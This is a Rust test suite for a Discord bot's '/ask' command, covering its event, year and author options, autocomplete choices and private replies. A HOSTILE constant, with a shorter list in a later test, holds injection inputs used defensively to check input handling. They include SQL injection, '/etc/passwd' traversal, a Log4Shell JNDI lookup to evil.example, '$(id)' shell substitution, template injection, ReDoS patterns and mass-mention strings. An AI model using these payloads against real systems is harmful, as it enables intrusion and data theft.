//! The options of `/ask`, alone and together, and their autocomplete choices. A18: their text is a name, a year or invalid.

use serde_json::Value;

use super::fixture::{flaws, has_excerpts, is_private, start_bot, start_bot_with, text};
use crate::fake_discord::FakeDiscord;
use crate::harness::TempCorpus;

const QUESTION: &str = "what is Kubernetes?";

/// The options of a call, and the first line of its answer.
type OptionsCase = (&'static [(&'static str, &'static str)], &'static str);

const FOUND: &[OptionsCase] = &[
    (&[("event", "kubecon-na-2019")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "KubeCon NA 2019, San Diego")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "KubeCon NA 2019")], "KubeCon NA 2019, San Diego:"),
    (&[("event", "san diego")], "KubeCon NA 2019, San Diego:"),
    (&[("event", " ")], ""),
    (&[("year", "2019")], "2019:"),
    (&[("year", "2018-2020")], "2018 to 2020:"),
    (&[("year", "")], ""),
    (&[("author", "Duncan Thomas")], "the words of Duncan Thomas:"),
    (&[("author", "garuccio")], "the words of Mike Garuccio:"),
    (&[("event", "kubecon-na-2019"), ("year", "2019")], "KubeCon NA 2019, San Diego:"),
    (&[("year", "2019"), ("author", "Mike Garuccio")], "2019 · the words of Mike Garuccio:"),
    (
        &[("event", "kubecon-na-2019"), ("year", "2018-2019"), ("author", "Mike Garuccio")],
        "KubeCon NA 2019, San Diego · 2018 to 2019 · the words of Mike Garuccio:",
    ),
];

const NOT_FOUND: &[OptionsCase] = &[
    (&[("event", "NoSuchConf 2031")], "There is no recap about NoSuchConf 2031."),
    (&[("year", "1999")], "There is no recap from 1999."),
    (&[("author", "nobody")], "There is no recap by nobody."),
    (&[("event", "kubecon-na-2019"), ("year", "2018")], "Searched in KubeCon NA 2019, San Diego · 2018."),
];

#[tokio::test]
async fn each_option_narrows_alone_and_with_the_others() {
    let (fake, _bot) = start_bot().await;
    for place in ["server", "direct"] {
        for (options, line) in FOUND {
            let call =
                options.iter().fold(fake.ask(QUESTION), |call, (name, value)| call.option(name, *value));
            let call = if place == "direct" { call.in_dm() } else { call };
            let reply = call.send().reply().await;
            assert_eq!(text(&reply).lines().next(), Some(*line), "{options:?}: {reply:#}");
            assert!(has_excerpts(&reply) && !is_private(&reply), "{options:?}: {reply:#}");
        }
        for (options, line) in NOT_FOUND {
            let call =
                options.iter().fold(fake.ask(QUESTION), |call, (name, value)| call.option(name, *value));
            let reply = call.send().reply().await;
            assert!(text(&reply).lines().any(|said| said == *line), "{options:?}: {reply:#}");
            assert!(!has_excerpts(&reply), "{options:?}: {reply:#}");
        }
    }
    fake.assert_clean();
}

#[tokio::test]
async fn a_year_that_is_none_is_explained_to_the_person_alone() {
    let (fake, _bot) = start_bot().await;
    for year in ["nonsense", "20x9", "99999", "2020-2018-2019", "-1", "²⁰¹⁹"] {
        let reply = fake.ask(QUESTION).option("year", year).send().reply().await;
        assert!(text(&reply).contains("I can't read that year"), "{year}: {reply:#}");
        assert!(is_private(&reply), "{year}: {reply:#}");
    }
    for call in
        [fake.ask(QUESTION).option("year", "2019-2017"), fake.ask(&format!("{QUESTION} year:2019-2017"))]
    {
        let reply = call.send().reply().await;
        assert_eq!(text(&reply), "Please write the earlier year first: 2017-2019.", "{reply:#}");
        assert!(is_private(&reply), "{reply:#}");
    }
    fake.assert_clean();
}

#[tokio::test]
async fn who_asks_in_private_is_answered_in_private() {
    let (fake, _bot) = start_bot().await;
    for (is_wanted, question) in
        [(true, QUESTION), (false, QUESTION), (true, "who won the football world cup?")]
    {
        for call in [fake.ask(question), fake.ask(question).in_dm()] {
            let reply = call.private(is_wanted).send().reply().await;
            assert_eq!(is_private(&reply), is_wanted, "{reply:#}");
        }
    }
    let call = fake.ask(QUESTION).event("kubecon-na-2019").option("year", "2019").author("garuccio");
    let reply = call.private(true).send().reply().await;
    assert!(is_private(&reply) && has_excerpts(&reply), "{reply:#}");
    fake.assert_clean();
}

/// Hostile texts, each for each option.
pub const HOSTILE: &[&str] = &[
    "'; DROP TABLE posts; --",
    "\" OR 1=1",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "/dev/zero",
    "%s%n%x{0}{}${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 1 %> $(id) `id`",
    "@everyone <@1100000000000000002> <@&1100000000000000007> <#1>",
    "[a](https://evil.example) https://evil.example ||x|| ```x```",
    "\u{202e}9102\u{202c} \u{0}\u{1b}[31m\r\nX-Header: 1",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
    "*~^:[a TO z] /(a+)+$/",
    "event: author: year:",
    "🦦🦦🦦",
];

#[tokio::test]
async fn a18_whatever_stands_in_an_option_is_a_name_or_none() {
    let (fake, _bot) = start_bot().await;
    let long = "x".repeat(200);
    for value in HOSTILE.iter().copied().chain([long.as_str()]) {
        for option in ["event", "year", "author"] {
            let reply = fake.ask(QUESTION).option(option, value).send().reply().await;
            assert_eq!(flaws(&reply), [""; 0], "{option} {value:?}: {reply:#}");
            assert!(!has_excerpts(&reply), "{option} {value:?} names nothing: {reply:#}");
        }
        let call = fake.ask(value).event(value).option("year", value).author(value);
        let reply: Value = call.private(false).send().reply().await;
        assert_eq!(flaws(&reply), [""; 0], "{value:?}: {reply:#}");
    }
    fake.assert_clean();
}

/// Returns the choices, each with its name and its value.
async fn choices(fake: &FakeDiscord, option: &str, typed: &str) -> Vec<(String, String)> {
    let data = fake.autocomplete("ask").focused(option, typed).send().first_callback().await;
    assert_eq!(data.kind, 8, "{option} {typed:?}: {data:?}");
    let choices = data.data["choices"].as_array().expect("a list, also where it is empty").clone();
    let field = |choice: &Value, name: &str| choice[name].as_str().expect("text").to_owned();
    choices.iter().map(|choice| (field(choice, "name"), field(choice, "value"))).collect()
}

async fn names(fake: &FakeDiscord, option: &str, typed: &str) -> Vec<String> {
    choices(fake, option, typed).await.into_iter().map(|(name, _)| name).collect()
}

#[tokio::test]
async fn what_is_typed_is_completed() {
    let (fake, _bot) = start_bot().await;
    let san_diego = "KubeCon NA 2019, San Diego · 2 posts";
    assert_eq!(names(&fake, "event", "").await.len(), 4);
    assert_eq!(names(&fake, "event", "").await[0], san_diego, "the one with most posts is first");
    assert_eq!(names(&fake, "event", "san d").await, [san_diego]);
    assert_eq!(names(&fake, "event", "kubecon na 19").await, [san_diego]);
    assert_eq!(names(&fake, "year", "").await, ["2019 · 3 posts", "2018 · 2 posts"]);
    assert_eq!(names(&fake, "year", "201").await.len(), 2);
    assert_eq!(names(&fake, "year", "2018-2020").await, ["2018-2020 · 5 posts"]);
    assert_eq!(names(&fake, "author", "").await.len(), 3);
    assert_eq!(names(&fake, "author", "garu").await, ["Mike Garuccio · 1 post"]);
    assert_eq!(names(&fake, "author", "DUNC tho").await, ["Duncan Thomas · 1 post"]);
    for (option, typed, first) in [
        ("event", "sd", san_diego),
        ("event", "na 19", san_diego),
        ("event", "BCN", "KubeCon EU 2019, Barcelona · 1 post"),
        ("event", "barcelna", "KubeCon EU 2019, Barcelona · 1 post"),
        ("year", "19", "2019 · 3 posts"),
        ("author", "garucio", "Mike Garuccio · 1 post"),
    ] {
        assert_eq!(names(&fake, option, typed).await.first().map(String::as_str), Some(first), "{typed}");
    }
    fake.assert_clean();
}

#[tokio::test]
async fn what_is_chosen_is_where_is_looked() {
    let (fake, _bot) = start_bot().await;
    for option in ["event", "year", "author"] {
        for (name, value) in choices(&fake, option, "").await {
            let interaction = fake.ask("what about Kubernetes and projects?").option(option, value.as_str());
            let said = text(&interaction.send().reply().await);
            let label = name.rsplit_once(" · ").expect("a number of posts").0;
            let tells_scope = |line: &&str| {
                line.ends_with(':') || line.starts_with("Searched in ") || line.starts_with("-# ")
            };
            let line = said.lines().find(tells_scope);
            assert!(line.is_some_and(|line| line.contains(label)), "{name}: {said}");
        }
    }
    fake.assert_clean();
}

/// Choices in a direct channel, with other options filled in, and while an earlier option is edited.
#[tokio::test]
async fn other_options_do_not_stand_in_the_way() {
    let (fake, _bot) = start_bot().await;
    let call = fake.autocomplete("ask").option("question", "what?").option("year", "2019").in_dm();
    let names = call.focused("event", "barcelona").send().choices().await;
    assert_eq!(names, ["KubeCon EU 2019, Barcelona · 1 post"]);
    fake.assert_clean();
}

#[tokio::test]
async fn a18_where_nothing_fits_the_list_is_empty() {
    let (fake, _bot) = start_bot().await;
    let long =
        ["x".repeat(100), "x".repeat(6_000), "ξ ".repeat(3_000), "🦦".repeat(1_000), "(".repeat(2_000)];
    let hostile = [
        "otters",
        "?!",
        "@everyone <@1100000000000000002>",
        "'; DROP TABLE posts; --",
        "[a](https://evil.example)",
        "\u{202e}\u{200b}\u{0}",
        "/(q+)+$/",
        "%q%z",
    ];
    for typed in hostile.into_iter().chain(long.iter().map(String::as_str)) {
        for option in ["event", "year", "author"] {
            assert_eq!(names(&fake, option, typed).await, [""; 0], "{option} {typed:?}");
        }
    }
    fake.assert_clean();
}

/// An unknown option or command gets an empty list, since a list can't hold a message.
#[tokio::test]
async fn an_option_that_there_is_not_has_no_choices() {
    let (fake, _bot) = start_bot().await;
    for call in [
        fake.autocomplete("ask").focused("topic", "mesh"),
        fake.autocomplete("ask").focused("question", "what"),
        fake.autocomplete("ask"),
        fake.autocomplete("trends").focused("topic", "mesh"),
        fake.autocomplete("ask").subcommand("more").focused("event", "kubecon"),
    ] {
        let sent = call.send();
        assert_eq!(sent.first_callback().await.kind, 8);
        assert_eq!(sent.choices().await, [""; 0]);
    }
    fake.assert_clean();
}

/// Names that are longer than Discord's limit, or that would break a line.
#[tokio::test]
async fn names_of_the_corpus_are_cut_to_fit() {
    let mut corpus = TempCorpus::new();
    for at in 0..40 {
        let author = format!("Author {at:02} {}", "Längername ".repeat(at));
        let post = format!(
            "---\ntitle: Post {at}\nauthor: \"{author}\"\ndate: 20{at:02}-01-02\n---\nThe otters met.\n"
        );
        corpus = corpus.file(&format!("{at}.md"), post);
    }
    let (fake, _bot) = start_bot_with(&corpus).await;
    assert!((8..=25).contains(&names(&fake, "author", "").await.len()));
    assert_eq!(names(&fake, "year", "").await.len(), 25);
    for (_, value) in choices(&fake, "author", "author 0").await {
        let reply = fake.ask("who met?").author(&value).send().reply().await;
        assert!(has_excerpts(&reply) || text(&reply).contains("Looked in words of"), "{value}: {reply:#}");
    }
    fake.assert_clean();
}
